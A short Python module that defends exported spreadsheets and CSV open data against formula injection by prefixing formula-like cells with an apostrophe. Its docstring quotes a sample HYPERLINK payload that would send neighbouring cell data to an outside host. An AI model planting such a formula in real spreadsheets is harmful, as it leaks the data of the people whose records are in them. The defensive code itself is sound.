"""One rule for text that a spreadsheet could run: formula injection in XLSX and CSV files.

Staff may edit names (a kelurahan, a kecamatan, an office) and any text they type ends up in
the recap and in the open data. A spreadsheet reads a cell starting with = + - @ (or a tab or
a carriage return before them) as a formula, so `=HYPERLINK("http://…"&B3,"Gambir")` would
become a live link that sends the neighbouring cells away. Such text is written as text: a
string cell in XLSX, and with a leading apostrophe in CSV, as OWASP recommends.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    """True for text a spreadsheet would read as a formula; numbers and dates never are."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as a CSV cell: formula-like text gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]
